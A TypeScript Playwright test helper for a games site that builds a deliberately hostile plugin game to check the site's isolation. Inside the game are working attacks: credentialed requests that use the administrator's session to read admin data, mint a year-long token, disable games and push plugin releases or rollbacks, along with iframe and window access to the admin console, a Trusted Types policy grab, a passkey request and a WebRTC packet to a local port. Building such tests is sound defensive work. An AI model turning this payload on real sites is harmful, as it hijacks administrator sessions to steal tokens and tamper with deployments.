import { createSocket } from 'node:dgram';
import type { Page } from '@playwright/test';
import { addAlteredGame } from './altered-game.ts';

/** Result of each attack: status and code of a response, `open`, or `blocked`. */
export type Loot = Record<string, string>;

/**
 * A game as a malicious team could publish it. It uses the administrator's session in the same browser. When it deals,
 * it attacks the origin in the address of its page, `?target=http://localhost:3000`, one attack after the other.
 */
const HOSTILITY = `
import game from './orderly-game.ts';

// The build contains the names of the page, but not another name of the window.
const page = window;

async function call(origin, method, path, body) {
  try {
    const answer = await page.fetch(origin + path, {
      method,
      credentials: 'include',
      ...(body && { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
    });
    return answer.ok ? String(answer.status) : answer.status + ' ' + (await answer.json()).code;
  } catch {
    return 'blocked';
  }
}

const pause = (ms) => new Promise((resolve) => page.setTimeout(resolve, ms));

/** Whether a document of the console can be read. */
async function look(documentOf) {
  for (let tries = 0; tries < 20; tries += 1) {
    try {
      if (documentOf().querySelector('form, h1, [role=tab]')) return 'open';
    } catch {}
    await pause(100);
  }
  return 'blocked';
}

/** Sends a packet to a UDP port of this machine by WebRTC. */
async function sendPacket(port) {
  const connection = new page.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
  connection.createDataChannel('out');
  await connection.setLocalDescription(await connection.createOffer());
  for (let tries = 0; tries < 10 && connection.iceGatheringState !== 'complete'; tries += 1) await pause(100);
}

function tryTo(action) {
  return Promise.resolve().then(action).then(() => 'open', () => 'blocked');
}

async function attack(origin) {
  const [{ id, key }] = (await (await page.fetch('/api/games')).json()).filter(({ key }) => key === 'memo-game');
  const plugin = '/api/admin/plugins/' + key;
  const reason = 'an update';
  await sendPacket(new URLSearchParams(page.location.search).get('udp'));
  const frame = page.document.createElement('iframe');
  frame.src = origin + '/admin';
  page.document.body.append(frame);
  const opened = page.open(origin + '/admin');
  return {
    window: await look(() => opened.document),
    frame: await look(() => frame.contentDocument),
    policy: await tryTo(() => page.trustedTypes.createPolicy('default', { createHTML: (html) => html })),
    passkey: await tryTo(() =>
      page.navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 100 } }),
    ),
    session: await call(origin, 'GET', '/api/admin/session'),
    feedback: await call(origin, 'GET', '/api/admin/feedback'),
    tokens: await call(origin, 'GET', plugin + '/tokens'),
    toggle: await call(origin, 'PATCH', '/api/admin/games/' + id, { isActive: false }),
    token: await call(origin, 'POST', plugin + '/tokens', { name: 'mine', days: 365 }),
    release: await call(origin, 'POST', plugin + '/release', { version: '1.0.0', reason }),
    rollback: await call(origin, 'POST', plugin + '/rollback', { reason }),
    restore: await call(origin, 'POST', plugin + '/restore', { reason }),
    password: await call(origin, 'POST', '/api/admin/session/password-proof', { password: 'a good guess, perhaps' }),
  };
}

export default {
  ...game,
  deal(context) {
    const target = new URLSearchParams(page.location.search).get('target');
    attack(target).then((loot) => Object.assign(page, { loot }), (error) => Object.assign(page, { loot: String(error) }));
    return game.deal(context);
  },
};
`;

const KEY = 'bad-faith';

export function addHostileGame(plugins: string): void {
  addAlteredGame(plugins, { key: KEY, of: 'logo-game', name: 'Hostile Game', code: HOSTILITY });
}

/** Plays the hostile game in a page of the site, and returns the results of its attacks on an origin. */
export async function playHostileGame(page: Page, site: string, target: string): Promise<Loot> {
  let webrtc = 'blocked';
  const listener = createSocket('udp4', () => (webrtc = 'open'));
  try {
    await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve));
    const query = new URLSearchParams({ target, udp: String(listener.address().port) });
    await page.goto(`${site}/${KEY}?${query}`);
    await page.getByRole('button', { name: 'Start', exact: true }).click();
    const loot = await page.waitForFunction(() => (window as unknown as { loot?: Loot }).loot);
    return { ...(await loot.jsonValue())!, webrtc };
  } finally {
    listener.close();
  }
}
